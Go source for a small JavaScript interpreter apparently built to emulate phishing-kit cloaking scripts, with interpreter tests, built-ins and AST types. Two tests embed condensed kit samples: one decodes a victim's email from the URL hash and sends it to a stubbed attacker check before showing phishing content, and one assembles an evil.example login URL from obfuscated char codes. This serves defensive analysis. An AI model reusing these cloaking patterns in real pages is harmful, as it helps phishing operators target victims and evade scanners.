		v2, err2 := ip.Eval("(" + sb + ") + (" + sa + ")")
		if err1 != nil || err2 != nil {
			return false
		}
		return v1.ToNumber() == v2.ToNumber()
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 40}); err != nil {
		t.Error(err)
	}
}

func TestStringConcatMatchesGoProperty(t *testing.T) {
	ip := New(0)
	f := func(a, b uint8) bool {
		s1 := strings.Repeat("x", int(a%10))
		s2 := strings.Repeat("y", int(b%10))
		v, err := ip.Eval(`"` + s1 + `" + "` + s2 + `"`)
		if err != nil {
			return false
		}
		return v.ToString() == s1+s2
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 40}); err != nil {
		t.Error(err)
	}
}

func TestNaNComparisons(t *testing.T) {
	if got := evalStr(t, `(NaN < 1) + "," + (NaN > 1) + "," + (NaN === NaN)`); got != "false,false,false" {
		t.Errorf("NaN comparisons = %q", got)
	}
	if !math.IsNaN(evalNum(t, `NaN + 1`)) {
		t.Error("NaN + 1 should be NaN")
	}
}

func TestCommentsIgnored(t *testing.T) {
	src := `
	// line comment
	var x = 1; /* block
	comment */ var y = 2;
	x + y
	`
	if got := evalNum(t, src); got != 3 {
		t.Errorf("comments = %v", got)
	}
}

func TestVictimCheckScriptShape(t *testing.T) {
	// Condensed form of the obfuscated victim-tracking script shared by 38
	// domains in the corpus: extract the email from a tokenized URL hash,
	// validate it, and query the attacker's server synchronously.
	ip := New(0)
	var queried string
	ip.SetGlobal("syncCheck", NewHostFunc(func(_ *Interp, _ Value, args []Value) (Value, error) {
		if len(args) > 0 {
			queried = args[0].ToString()
		}
		return Bool(strings.Contains(queried, "victim@corp.example")), nil
	}))
	location := NewObject()
	location.Set("hash", String("#dmljdGltQGNvcnAuZXhhbXBsZQ==")) // base64 email
	ip.SetGlobal("location", ObjectValue(location))
	src := `
	var raw = location.hash.slice(1);
	var email = atob(raw);
	var re = new RegExp("^[a-zA-Z0-9._%+-]+@[a-zA-Z0-9.-]+$");
	var allowed = false;
	if (re.test(email)) {
		allowed = syncCheck("check?email=" + email);
	}
	allowed ? "show-phish" : "show-benign"
	`
	v, err := ip.Eval(src)
	if err != nil {
		t.Fatal(err)
	}
	if v.ToString() != "show-phish" {
		t.Errorf("victim check = %q, want show-phish", v.ToString())
	}
}

func TestSwitchStatement(t *testing.T) {
	tests := []struct {
		src  string
		want string
	}{
		{`
		var r = "";
		switch (2) {
		case 1: r = "one"; break;
		case 2: r = "two"; break;
		default: r = "other";
		}
		r`, "two"},
		{`
		var r = "";
		switch ("zz") {
		case "a": r = "a"; break;
		default: r = "default";
		}
		r`, "default"},
		{`
		var r = "";
		switch (1) {
		case 1: r += "one,";
		case 2: r += "two,"; break;
		case 3: r += "three,";
		}
		r`, "one,two,"}, // fall-through without break
		{`
		var r = "none";
		switch (9) {
		case 1: r = "one";
		}
		r`, "none"},
		{`
		var r = "";
		switch ("1") {
		case 1: r = "loose"; break;
		default: r = "strict";
		}
		r`, "strict"}, // switch uses strict comparison
	}
	for _, tt := range tests {
		if got := evalStr(t, tt.src); got != tt.want {
			t.Errorf("switch = %q, want %q (src: %s)", got, tt.want, tt.src)
		}
	}
}

func TestStringFromCharCode(t *testing.T) {
	// The classic obfuscation carrier: assemble a URL from char codes.
	src := `String.fromCharCode(104,116,116,112,115,58,47,47)`
	if got := evalStr(t, src); got != "https://" {
		t.Errorf("fromCharCode = %q", got)
	}
}

func TestObfuscatedKitScriptWithSwitchAndCharCodes(t *testing.T) {
	// The shape of a real kit dispatcher: mode selection via switch plus a
	// char-code-assembled host fragment.
	src := `
	function buildTarget(mode) {
		var scheme = String.fromCharCode(104,116,116,112,115,58,47,47);
		var host = "";
		switch (mode) {
		case "m":
			host = "mobile." + atob("ZXZpbC5leGFtcGxl");
			break;
		case "d":
			host = atob("ZXZpbC5leGFtcGxl");
			break;
		default:
			host = "decoy.example";
		}
		return scheme + host + "/login";
	}
	buildTarget("d")
	`
	if got := evalStr(t, src); got != "https://evil.example/login" {
		t.Errorf("kit dispatcher = %q", got)
	}
}

func TestMoreBuiltins(t *testing.T) {
	tests := []struct {
		src  string
		want string
	}{
		{`isFinite(1) + "," + isFinite(1/0) + "," + isFinite("x")`, "true,false,false"},
		{`encodeURIComponent("a b&c")`, "a+b%26c"},
		{`decodeURIComponent("a%20b")`, "a b"},
		{`Object.keys({b:1,a:2}).join(",")`, "a,b"},
		{`Object.values({a:1,b:2}).join(",")`, "1,2"},
		{`var o={a:1}; Object.assign(o,{b:2},{c:3}); Object.keys(o).join("")`, "abc"},
		{`Array.isArray([1]) + "," + Array.isArray("no")`, "true,false"},
		{`Array.from("abc").join("-")`, "a-b-c"},
		{`Array.from([1,2]).length + ""`, "2"},
		{`Array(3).length + ""`, "3"},
		{`Math.sign(-5) + "," + Math.sign(0) + "," + Math.sign(9)`, "-1,0,1"},
		{`Math.trunc(2.9) + "," + Math.trunc(-2.9)`, "2,-2"},
		{`Boolean("") + "," + Boolean("x")`, "false,true"},
		{`Number("42") + 1 + ""`, "43"},
		{`String(12.5)`, "12.5"},
	}
	for _, tt := range tests {
		if got := evalStr(t, tt.src); got != tt.want {
			t.Errorf("%q = %q, want %q", tt.src, got, tt.want)
		}
	}
}

func TestMoreStringMethods(t *testing.T) {
	tests := []struct {
		src  string
		want string
	}{
		{`"abcabc".lastIndexOf("b") + ""`, "4"},
		{`"hello".substr(1, 3)`, "ell"},
		{`"hello".substr(-3)`, "llo"},
		{`"7".padStart(3, "0")`, "007"},
		{`"https://x".endsWith("x") + ""`, "true"},
		{`"A".charCodeAt(0) + ""`, "65"},
		{`"a".concat("b", "c")`, "abc"},
		{`"abc"[1]`, "b"},
		{`"abc".toString()`, "abc"},
		{`"x".charCodeAt(9) + ""`, "NaN"},
		{`"hi".charAt(5)`, ""},
	}
	for _, tt := range tests {
		if got := evalStr(t, tt.src); got != tt.want {
			t.Errorf("%q = %q, want %q", tt.src, got, tt.want)
		}
	}
}

func TestOperatorsAndCoercions(t *testing.T) {
	tests := []struct {
		src  string
		want string
	}{
		{`var x = (1, 2, 3); x + ""`, "3"}, // comma operator
		{`void 42 + ""`, "undefined"},
		{`5 & 3 | 8 ^ 1`, "9"},
		{`var a = 6; a &= 3; a |= 8; a + ""`, "10"},
		{`"b" in {a:1,b:2} ? "y" : "n"`, "y"},
		{`"z" in {a:1} ? "y" : "n"`, "n"},
		{`[1,2] + ""`, "1,2"},
		{`({}) + ""`, "[object Object]"},
		{`(null == 0) + ""`, "false"},
		{`("5" == 5) + ""`, "true"},
		{`("abc" < "abd") + ""`, "true"},
		{`(2 >>> 1) + ""`, "1"},
		{`(-1 >>> 28) + ""`, "15"},
	}
	for _, tt := range tests {
		if got := evalStr(t, tt.src); got != tt.want {
			t.Errorf("%q = %q, want %q", tt.src, got, tt.want)
		}
	}
}

func TestInstanceofErrorValues(t *testing.T) {
	src := `
	var r = "";
	try { throw new RangeError("r"); } catch (e) {
		r = (e instanceof Error) + "," + ({} instanceof Error);
	}
	r`
	if got := evalStr(t, src); got != "true,false" {
		t.Errorf("instanceof = %q", got)
	}
}

func TestJSONEdgeCases(t *testing.T) {
	tests := []struct {
		src  string
		want string
	}{
		{`JSON.stringify([1,[2,[3]]])`, "[1,[2,[3]]]"},
		{`JSON.stringify({a:null,b:true})`, `{"a":null,"b":true}`},
		{`JSON.stringify("quote\"d")`, `"quote\"d"`},
		{`JSON.parse("[1,2,3]").length + ""`, "3"},
		{`JSON.parse('{"a":{"b":[true,null]}}').a.b[0] + ""`, "true"},
		{`JSON.parse('"A"')`, "A"},
		{`JSON.parse("  42  ") + ""`, "42"},
		{`JSON.stringify(NaN)`, "null"},
	}
	for _, tt := range tests {
		if got := evalStr(t, tt.src); got != tt.want {
			t.Errorf("%q = %q, want %q", tt.src, got, tt.want)
		}
	}
}

func TestInspectRendering(t *testing.T) {
	ip := New(0)
	v, err := ip.Eval(`({name: "kit", list: [1, "two"]})`)
	if err != nil {
		t.Fatal(err)
	}
	got := Inspect(v)
	if !strings.Contains(got, `name: "kit"`) || !strings.Contains(got, `[1, "two"]`) {
		t.Errorf("Inspect = %q", got)
	}
}

func TestArrayIndexWriteGrowth(t *testing.T) {
	src := `var a = []; a[3] = "x"; a.length + ":" + (a[0] === undefined)`
	if got := evalStr(t, src); got != "4:true" {
		t.Errorf("sparse write = %q", got)
	}
	src = `var a = [1,2,3,4]; a.length = 2; a.join("")`
	if got := evalStr(t, src); got != "12" {
		t.Errorf("length truncation = %q", got)
	}
}

func TestRegExpExecGroups(t *testing.T) {
	src := `
	var re = new RegExp("(\\w+)@(\\w+)");
	var m = re.exec("contact victim@corp now");
	m[0] + "|" + m[1] + "|" + m[2]
	`
	if got := evalStr(t, src); got != "victim@corp|victim|corp" {
		t.Errorf("exec = %q", got)
	}
	if got := evalStr(t, `new RegExp("zz").exec("abc") === null ? "null" : "hit"`); got != "null" {
		t.Errorf("no-match exec = %q", got)
	}
	src = `
	var r = "";
	try { new RegExp("[unclosed"); } catch (e) { r = e.name; }
	r`
	if got := evalStr(t, src); got != "SyntaxError" {
		t.Errorf("bad regex = %q", got)
	}
}

func TestParseIntBases(t *testing.T) {
	tests := []struct {
		src  string
		want float64
	}{
		{`parseInt("0x1f", 16)`, 31},
		{`parseInt("101", 2)`, 5},
		{`parseInt("  42  ")`, 42},
		{`parseInt("+7")`, 7},
	}
	for _, tt := range tests {
		if got := evalNum(t, tt.src); got != tt.want {
			t.Errorf("%q = %v, want %v", tt.src, got, tt.want)
		}
	}
}

func TestDatePieces(t *testing.T) {
	ip := New(0)
	v, err := ip.Eval(`
	var d = new Date();
	d.getTime() === Date.now() ? d.getTimezoneOffset() + "" : "mismatch"
	`)
	if err != nil {
		t.Fatal(err)
	}
	if v.ToString() != "0" {
		t.Errorf("date pieces = %q", v.ToString())
	}
}
