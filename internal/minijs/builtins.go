package minijs

import (
	"encoding/base64"
	"math"
	"net/url"
	"regexp"
	"strconv"
	"strings"
)

// installBuiltins defines the standard global objects and functions. The
// repertoire is chosen to cover what the cloaking scripts in the corpus
// actually use: atob/btoa for payload obfuscation, Math and JSON, parseInt,
// RegExp for victim email validation, Error, Object.keys, Array.isArray,
// String/Number/Boolean converters, and URI encoding helpers.
func (ip *Interp) installBuiltins() {
	ip.SetGlobal("NaN", Number(math.NaN()))
	ip.SetGlobal("Infinity", Number(math.Inf(1)))
	ip.SetGlobal("globalThis", Undefined) // patched by embedders with a window

	ip.SetGlobal("isNaN", NewHostFunc(func(_ *Interp, _ Value, args []Value) (Value, error) {
		return Bool(len(args) == 0 || math.IsNaN(args[0].ToNumber())), nil
	}))
	ip.SetGlobal("isFinite", NewHostFunc(func(_ *Interp, _ Value, args []Value) (Value, error) {
		if len(args) == 0 {
			return False, nil
		}
		n := args[0].ToNumber()
		return Bool(!math.IsNaN(n) && !math.IsInf(n, 0)), nil
	}))
	ip.SetGlobal("parseInt", NewHostFunc(func(_ *Interp, _ Value, args []Value) (Value, error) {
		if len(args) == 0 {
			return Number(math.NaN()), nil
		}
		s := strings.TrimSpace(args[0].ToString())
		base := 10
		if len(args) > 1 && !args[1].IsUndefined() {
			base = int(args[1].ToNumber())
		}
		if base == 0 {
			base = 10
		}
		neg := false
		if strings.HasPrefix(s, "-") {
			neg = true
			s = s[1:]
		} else {
			s = strings.TrimPrefix(s, "+")
		}
		if base == 16 {
			s = strings.TrimPrefix(strings.TrimPrefix(s, "0x"), "0X")
		}
		end := 0
		for end < len(s) {
			d := digitVal(s[end])
			if d < 0 || d >= base {
				break
			}
			end++
		}
		if end == 0 {
			return Number(math.NaN()), nil
		}
		n, err := strconv.ParseInt(s[:end], base, 64)
		if err != nil {
			return Number(math.NaN()), nil
		}
		if neg {
			n = -n
		}
		return Number(float64(n)), nil
	}))
	ip.SetGlobal("parseFloat", NewHostFunc(func(_ *Interp, _ Value, args []Value) (Value, error) {
		if len(args) == 0 {
			return Number(math.NaN()), nil
		}
		s := strings.TrimSpace(args[0].ToString())
		end := 0
		seenDot, seenE := false, false
		for end < len(s) {
			c := s[end]
			switch {
			case c >= '0' && c <= '9':
			case c == '.' && !seenDot && !seenE:
				seenDot = true
			case (c == 'e' || c == 'E') && !seenE && end > 0:
				seenE = true
			case (c == '+' || c == '-') && (end == 0 || s[end-1] == 'e' || s[end-1] == 'E'):
			default:
				goto done
			}
			end++
		}
	done:
		if end == 0 {
			return Number(math.NaN()), nil
		}
		n, err := strconv.ParseFloat(s[:end], 64)
		if err != nil {
			return Number(math.NaN()), nil
		}
		return Number(n), nil
	}))

	stringGlobal := NewHostFunc(func(_ *Interp, _ Value, args []Value) (Value, error) {
		if len(args) == 0 {
			return String(""), nil
		}
		return String(args[0].ToString()), nil
	})
	// String.fromCharCode: the workhorse of obfuscated kit payloads.
	stringGlobal.Object().Set("fromCharCode", NewHostFunc(func(_ *Interp, _ Value, args []Value) (Value, error) {
		var sb strings.Builder
		for _, a := range args {
			sb.WriteRune(rune(int(a.ToNumber()) & 0x10FFFF))
		}
		return String(sb.String()), nil
	}))
	ip.SetGlobal("String", stringGlobal)
	ip.SetGlobal("Number", NewHostFunc(func(_ *Interp, _ Value, args []Value) (Value, error) {
		if len(args) == 0 {
			return Number(0), nil
		}
		return Number(args[0].ToNumber()), nil
	}))
	ip.SetGlobal("Boolean", NewHostFunc(func(_ *Interp, _ Value, args []Value) (Value, error) {
		return Bool(len(args) > 0 && args[0].Truthy()), nil
	}))

	ip.SetGlobal("atob", NewHostFunc(func(_ *Interp, _ Value, args []Value) (Value, error) {
		if len(args) == 0 {
			return Undefined, Throw("InvalidCharacterError", "atob: missing argument")
		}
		decoded, err := base64.StdEncoding.DecodeString(strings.TrimSpace(args[0].ToString()))
		if err != nil {
			return Undefined, Throw("InvalidCharacterError", "atob: invalid base64")
		}
		return String(string(decoded)), nil
	}))
	ip.SetGlobal("btoa", NewHostFunc(func(_ *Interp, _ Value, args []Value) (Value, error) {
		if len(args) == 0 {
			return Undefined, Throw("InvalidCharacterError", "btoa: missing argument")
		}
		return String(base64.StdEncoding.EncodeToString([]byte(args[0].ToString()))), nil
	}))
	ip.SetGlobal("encodeURIComponent", NewHostFunc(func(_ *Interp, _ Value, args []Value) (Value, error) {
		if len(args) == 0 {
			return String("undefined"), nil
		}
		return String(url.QueryEscape(args[0].ToString())), nil
	}))
	ip.SetGlobal("decodeURIComponent", NewHostFunc(func(_ *Interp, _ Value, args []Value) (Value, error) {
		if len(args) == 0 {
			return String("undefined"), nil
		}
		out, err := url.QueryUnescape(args[0].ToString())
		if err != nil {
			return Undefined, Throw("URIError", "malformed URI sequence")
		}
		return String(out), nil
	}))

	ip.SetGlobal("Math", ObjectValue(ip.mathObject()))
	ip.SetGlobal("JSON", ObjectValue(ip.jsonObject()))
	ip.SetGlobal("Object", ObjectValue(ip.objectBuiltin()))
	ip.SetGlobal("Array", ObjectValue(ip.arrayBuiltin()))
	ip.SetGlobal("Date", ip.dateBuiltin())
	ip.SetGlobal("RegExp", ip.regexpBuiltin())

	for _, name := range []string{"Error", "TypeError", "RangeError", "SyntaxError", "ReferenceError"} {
		errName := name
		ip.SetGlobal(errName, NewHostFunc(func(_ *Interp, this Value, args []Value) (Value, error) {
			obj := this.Object()
			if obj == nil {
				obj = NewObject()
			}
			obj.Class = ClassError
			obj.Set("name", String(errName))
			msg := ""
			if len(args) > 0 {
				msg = args[0].ToString()
			}
			obj.Set("message", String(msg))
			return ObjectValue(obj), nil
		}))
	}
}

func digitVal(c byte) int {
	switch {
	case c >= '0' && c <= '9':
		return int(c - '0')
	case c >= 'a' && c <= 'z':
		return int(c-'a') + 10
	case c >= 'A' && c <= 'Z':
		return int(c-'A') + 10
	default:
		return -1
	}
}

func (ip *Interp) mathObject() *Object {
	m := NewObject()
	pure := func(fn func(float64) float64) Value {
		return NewHostFunc(func(_ *Interp, _ Value, args []Value) (Value, error) {
			if len(args) == 0 {
				return Number(math.NaN()), nil
			}
			return Number(fn(args[0].ToNumber())), nil
		})
	}
	m.Set("abs", pure(math.Abs))
	m.Set("floor", pure(math.Floor))
	m.Set("ceil", pure(math.Ceil))
	m.Set("round", pure(func(f float64) float64 { return math.Floor(f + 0.5) }))
	m.Set("sqrt", pure(math.Sqrt))
	m.Set("log", pure(math.Log))
	m.Set("exp", pure(math.Exp))
	m.Set("sin", pure(math.Sin))
	m.Set("cos", pure(math.Cos))
	m.Set("trunc", pure(math.Trunc))
	m.Set("sign", pure(func(f float64) float64 {
		switch {
		case f > 0:
			return 1
		case f < 0:
			return -1
		default:
			return f
		}
	}))
	m.Set("pow", NewHostFunc(func(_ *Interp, _ Value, args []Value) (Value, error) {
		if len(args) < 2 {
			return Number(math.NaN()), nil
		}
		return Number(math.Pow(args[0].ToNumber(), args[1].ToNumber())), nil
	}))
	m.Set("max", NewHostFunc(func(_ *Interp, _ Value, args []Value) (Value, error) {
		out := math.Inf(-1)
		for _, a := range args {
			out = math.Max(out, a.ToNumber())
		}
		return Number(out), nil
	}))
	m.Set("min", NewHostFunc(func(_ *Interp, _ Value, args []Value) (Value, error) {
		out := math.Inf(1)
		for _, a := range args {
			out = math.Min(out, a.ToNumber())
		}
		return Number(out), nil
	}))
	m.Set("random", NewHostFunc(func(interp *Interp, _ Value, _ []Value) (Value, error) {
		return Number(interp.Random()), nil
	}))
	m.Set("PI", Number(math.Pi))
	m.Set("E", Number(math.E))
	return m
}

func (ip *Interp) jsonObject() *Object {
	j := NewObject()
	j.Set("stringify", NewHostFunc(func(_ *Interp, _ Value, args []Value) (Value, error) {
		if len(args) == 0 {
			return Undefined, nil
		}
		return String(jsonStringify(args[0])), nil
	}))
	j.Set("parse", NewHostFunc(func(_ *Interp, _ Value, args []Value) (Value, error) {
		if len(args) == 0 {
			return Undefined, Throw("SyntaxError", "JSON.parse: missing argument")
		}
		v, rest, err := jsonParse(strings.TrimSpace(args[0].ToString()))
		if err != nil || strings.TrimSpace(rest) != "" {
			return Undefined, Throw("SyntaxError", "JSON.parse: invalid JSON")
		}
		return v, nil
	}))
	return j
}

func (ip *Interp) objectBuiltin() *Object {
	o := NewObject()
	o.Set("keys", NewHostFunc(func(_ *Interp, _ Value, args []Value) (Value, error) {
		arr := NewArray()
		if len(args) > 0 && args[0].kind == KindObject {
			if args[0].obj.Class == ClassArray {
				for i := range args[0].obj.Elems {
					arr.Elems = append(arr.Elems, String(trimFloat(float64(i))))
				}
			} else {
				for _, k := range args[0].obj.Keys() {
					arr.Elems = append(arr.Elems, String(k))
				}
			}
		}
		return ObjectValue(arr), nil
	}))
	o.Set("values", NewHostFunc(func(_ *Interp, _ Value, args []Value) (Value, error) {
		arr := NewArray()
		if len(args) > 0 && args[0].kind == KindObject {
			for _, k := range args[0].obj.Keys() {
				arr.Elems = append(arr.Elems, args[0].obj.Props[k])
			}
		}
		return ObjectValue(arr), nil
	}))
	o.Set("assign", NewHostFunc(func(_ *Interp, _ Value, args []Value) (Value, error) {
		if len(args) == 0 || args[0].kind != KindObject {
			return Undefined, nil
		}
		dst := args[0].obj
		for _, src := range args[1:] {
			if src.kind == KindObject {
				for _, k := range src.obj.Keys() {
					dst.Set(k, src.obj.Props[k])
				}
			}
		}
		return args[0], nil
	}))
	return o
}

func (ip *Interp) arrayBuiltin() *Object {
	a := NewObject()
	a.Class = ClassFunction
	a.host = func(_ *Interp, _ Value, args []Value) (Value, error) {
		if len(args) == 1 && args[0].kind == KindNumber {
			n := int(args[0].num)
			arr := NewArray()
			for i := 0; i < n; i++ {
				arr.Elems = append(arr.Elems, Undefined)
			}
			return ObjectValue(arr), nil
		}
		return ObjectValue(NewArray(args...)), nil
	}
	a.Set("isArray", NewHostFunc(func(_ *Interp, _ Value, args []Value) (Value, error) {
		return Bool(len(args) > 0 && args[0].kind == KindObject && args[0].obj.Class == ClassArray), nil
	}))
	a.Set("from", NewHostFunc(func(_ *Interp, _ Value, args []Value) (Value, error) {
		arr := NewArray()
		if len(args) > 0 {
			switch {
			case args[0].kind == KindObject && args[0].obj.Class == ClassArray:
				arr.Elems = append(arr.Elems, args[0].obj.Elems...)
			case args[0].kind == KindString:
				for _, r := range args[0].str {
					arr.Elems = append(arr.Elems, String(string(r)))
				}
			}
		}
		return ObjectValue(arr), nil
	}))
	return a
}

// dateBuiltin provides a Date constructor whose clock is the interpreter's
// Now hook, so the simulated browser's virtual time drives it. Supports:
// Date.now(), new Date().getTime(), and getTimezoneOffset (a fingerprint
// probe in the corpus).
func (ip *Interp) dateBuiltin() Value {
	dateObj := &Object{Class: ClassFunction, Props: map[string]Value{}}
	dateObj.host = func(interp *Interp, this Value, _ []Value) (Value, error) {
		obj := this.Object()
		if obj == nil {
			obj = NewObject()
		}
		now := interp.Now()
		obj.Set("getTime", NewHostFunc(func(_ *Interp, _ Value, _ []Value) (Value, error) {
			return Number(now), nil
		}))
		obj.Set("valueOf", NewHostFunc(func(_ *Interp, _ Value, _ []Value) (Value, error) {
			return Number(now), nil
		}))
		obj.Set("getTimezoneOffset", NewHostFunc(func(interp2 *Interp, _ Value, _ []Value) (Value, error) {
			if tz, ok := interp2.Global("__timezoneOffset"); ok {
				return tz, nil
			}
			return Number(0), nil
		}))
		obj.Set("toISOString", NewHostFunc(func(_ *Interp, _ Value, _ []Value) (Value, error) {
			return String("1970-01-01T00:00:00.000Z"), nil
		}))
		return ObjectValue(obj), nil
	}
	dateObj.Set("now", NewHostFunc(func(interp *Interp, _ Value, _ []Value) (Value, error) {
		return Number(interp.Now()), nil
	}))
	return ObjectValue(dateObj)
}

// regexpBuiltin provides `new RegExp(pattern, flags)` backed by Go's regexp
// package, supporting .test and .exec — enough for the victim-email
// validation patterns in the corpus.
func (ip *Interp) regexpBuiltin() Value {
	re := &Object{Class: ClassFunction, Props: map[string]Value{}}
	re.host = func(_ *Interp, this Value, args []Value) (Value, error) {
		pattern := ""
		flags := ""
		if len(args) > 0 {
			pattern = args[0].ToString()
		}
		if len(args) > 1 {
			flags = args[1].ToString()
		}
		goPattern := pattern
		if strings.Contains(flags, "i") {
			goPattern = "(?i)" + goPattern
		}
		compiled, err := regexp.Compile(goPattern)
		if err != nil {
			return Undefined, Throw("SyntaxError", "invalid regular expression: "+pattern)
		}
		obj := this.Object()
		if obj == nil {
			obj = NewObject()
		}
		obj.HostData = compiled
		obj.Set("source", String(pattern))
		obj.Set("flags", String(flags))
		obj.Set("test", NewHostFunc(func(_ *Interp, _ Value, args []Value) (Value, error) {
			if len(args) == 0 {
				return False, nil
			}
			return Bool(compiled.MatchString(args[0].ToString())), nil
		}))
		obj.Set("exec", NewHostFunc(func(_ *Interp, _ Value, args []Value) (Value, error) {
			if len(args) == 0 {
				return Null, nil
			}
			groups := compiled.FindStringSubmatch(args[0].ToString())
			if groups == nil {
				return Null, nil
			}
			arr := NewArray()
			for _, g := range groups {
				arr.Elems = append(arr.Elems, String(g))
			}
			return ObjectValue(arr), nil
		}))
		return ObjectValue(obj), nil
	}
	return ObjectValue(re)
}

// jsonStringify renders a value as JSON (subset: no cycles detection beyond
// a depth cap).
func jsonStringify(v Value) string {
	return jsonStringifyDepth(v, 0)
}

func jsonStringifyDepth(v Value, depth int) string {
	if depth > 32 {
		return "null"
	}
	switch v.kind {
	case KindString:
		return strconv.Quote(v.str)
	case KindNumber:
		if math.IsNaN(v.num) || math.IsInf(v.num, 0) {
			return "null"
		}
		return trimFloat(v.num)
	case KindBool:
		return v.ToString()
	case KindNull:
		return "null"
	case KindObject:
		switch v.obj.Class {
		case ClassArray:
			parts := make([]string, len(v.obj.Elems))
			for i, e := range v.obj.Elems {
				parts[i] = jsonStringifyDepth(e, depth+1)
			}
			return "[" + strings.Join(parts, ",") + "]"
		case ClassFunction:
			return "null"
		default:
			var parts []string
			for _, k := range v.obj.Keys() {
				pv := v.obj.Props[k]
				if pv.kind == KindObject && pv.obj.Callable() {
					continue
				}
				if pv.IsUndefined() {
					continue
				}
				parts = append(parts, strconv.Quote(k)+":"+jsonStringifyDepth(pv, depth+1))
			}
			return "{" + strings.Join(parts, ",") + "}"
		}
	default:
		return "null" // undefined at top level; omitted inside objects
	}
}

// jsonParse parses a JSON value, returning the remainder of the input.
func jsonParse(s string) (Value, string, error) {
	s = strings.TrimLeft(s, " \t\r\n")
	if s == "" {
		return Undefined, s, errJSON
	}
	switch c := s[0]; {
	case c == '{':
		obj := NewObject()
		s = s[1:]
		s = strings.TrimLeft(s, " \t\r\n")
		if strings.HasPrefix(s, "}") {
			return ObjectValue(obj), s[1:], nil
		}
		for {
			s = strings.TrimLeft(s, " \t\r\n")
			if s == "" || s[0] != '"' {
				return Undefined, s, errJSON
			}
			key, rest, err := jsonParseString(s)
			if err != nil {
				return Undefined, s, err
			}
			s = strings.TrimLeft(rest, " \t\r\n")
			if !strings.HasPrefix(s, ":") {
				return Undefined, s, errJSON
			}
			val, rest2, err := jsonParse(s[1:])
			if err != nil {
				return Undefined, s, err
			}
			obj.Set(key, val)
			s = strings.TrimLeft(rest2, " \t\r\n")
			if strings.HasPrefix(s, ",") {
				s = s[1:]
				continue
			}
			if strings.HasPrefix(s, "}") {
				return ObjectValue(obj), s[1:], nil
			}
			return Undefined, s, errJSON
		}
	case c == '[':
		arr := NewArray()
		s = s[1:]
		s = strings.TrimLeft(s, " \t\r\n")
		if strings.HasPrefix(s, "]") {
			return ObjectValue(arr), s[1:], nil
		}
		for {
			val, rest, err := jsonParse(s)
			if err != nil {
				return Undefined, s, err
			}
			arr.Elems = append(arr.Elems, val)
			s = strings.TrimLeft(rest, " \t\r\n")
			if strings.HasPrefix(s, ",") {
				s = s[1:]
				continue
			}
			if strings.HasPrefix(s, "]") {
				return ObjectValue(arr), s[1:], nil
			}
			return Undefined, s, errJSON
		}
	case c == '"':
		str, rest, err := jsonParseString(s)
		return String(str), rest, err
	case strings.HasPrefix(s, "true"):
		return True, s[4:], nil
	case strings.HasPrefix(s, "false"):
		return False, s[5:], nil
	case strings.HasPrefix(s, "null"):
		return Null, s[4:], nil
	default:
		end := 0
		for end < len(s) && (s[end] == '-' || s[end] == '+' || s[end] == '.' ||
			s[end] == 'e' || s[end] == 'E' || s[end] >= '0' && s[end] <= '9') {
			end++
		}
		if end == 0 {
			return Undefined, s, errJSON
		}
		n, err := strconv.ParseFloat(s[:end], 64)
		if err != nil {
			return Undefined, s, errJSON
		}
		return Number(n), s[end:], nil
	}
}

var errJSON = &SyntaxError{Msg: "invalid JSON"}

func jsonParseString(s string) (string, string, error) {
	if s == "" || s[0] != '"' {
		return "", s, errJSON
	}
	var sb strings.Builder
	i := 1
	for i < len(s) {
		c := s[i]
		if c == '"' {
			return sb.String(), s[i+1:], nil
		}
		if c == '\\' && i+1 < len(s) {
			i++
			switch s[i] {
			case 'n':
				sb.WriteByte('\n')
			case 't':
				sb.WriteByte('\t')
			case 'r':
				sb.WriteByte('\r')
			case 'u':
				if i+4 < len(s) {
					var r rune
					for k := 1; k <= 4; k++ {
						r = r<<4 | rune(hexVal(s[i+k]))
					}
					sb.WriteRune(r)
					i += 4
				}
			default:
				sb.WriteByte(s[i])
			}
			i++
			continue
		}
		sb.WriteByte(c)
		i++
	}
	return "", s, errJSON
}
