package minijs

// Statement nodes.

type stmt interface{ stmtNode() }

type (
	varStmt struct {
		Kind  string // var, let, const
		Names []string
		Inits []expr // nil entries for bare declarations
		Line  int
	}
	funcDeclStmt struct {
		Name string
		Fn   *funcLit
	}
	exprStmt struct {
		E expr
	}
	ifStmt struct {
		Cond expr
		Then stmt
		Else stmt // may be nil
	}
	whileStmt struct {
		Cond expr
		Body stmt
	}
	doWhileStmt struct {
		Cond expr
		Body stmt
	}
	forStmt struct {
		Init stmt // may be nil (varStmt or exprStmt)
		Cond expr // may be nil
		Post expr // may be nil
		Body stmt
	}
	forInStmt struct {
		Decl string // "", "var", "let", "const"
		Name string
		Of   bool // for-of vs for-in
		Obj  expr
		Body stmt
	}
	returnStmt struct {
		Value expr // may be nil
	}
	breakStmt    struct{}
	continueStmt struct{}
	blockStmt    struct {
		Stmts []stmt
	}
	tryStmt struct {
		Block     *blockStmt
		CatchName string
		Catch     *blockStmt // may be nil
		Finally   *blockStmt // may be nil
	}
	throwStmt struct {
		Value expr
	}
	debuggerStmt struct {
		Line int
	}
	switchStmt struct {
		Subject expr
		Cases   []switchCase
	}
	emptyStmt struct{}
)

// switchCase is one case (or default, when Test is nil) clause.
type switchCase struct {
	Test expr // nil for default
	Body []stmt
}

func (*varStmt) stmtNode()      {}
func (*funcDeclStmt) stmtNode() {}
func (*exprStmt) stmtNode()     {}
func (*ifStmt) stmtNode()       {}
func (*whileStmt) stmtNode()    {}
func (*doWhileStmt) stmtNode()  {}
func (*forStmt) stmtNode()      {}
func (*forInStmt) stmtNode()    {}
func (*returnStmt) stmtNode()   {}
func (*breakStmt) stmtNode()    {}
func (*continueStmt) stmtNode() {}
func (*blockStmt) stmtNode()    {}
func (*tryStmt) stmtNode()      {}
func (*throwStmt) stmtNode()    {}
func (*debuggerStmt) stmtNode() {}
func (*switchStmt) stmtNode()   {}
func (*emptyStmt) stmtNode()    {}

// Expression nodes.

type expr interface{ exprNode() }

type (
	numberLit struct{ Value float64 }
	stringLit struct{ Value string }
	boolLit   struct{ Value bool }
	nullLit   struct{}
	undefLit  struct{}
	identExpr struct {
		Name string
		Line int
	}
	thisExpr  struct{}
	arrayLit  struct{ Elems []expr }
	objectLit struct {
		Keys   []string
		Values []expr
	}
	funcLit struct {
		Params []string
		Body   *blockStmt
		Arrow  bool
	}
	unaryExpr struct {
		Op      string // ! - + typeof void delete ~
		Operand expr
	}
	updateExpr struct {
		Op      string // ++ --
		Prefix  bool
		Operand expr
	}
	binaryExpr struct {
		Op          string
		Left, Right expr
	}
	logicalExpr struct {
		Op          string // && || ??
		Left, Right expr
	}
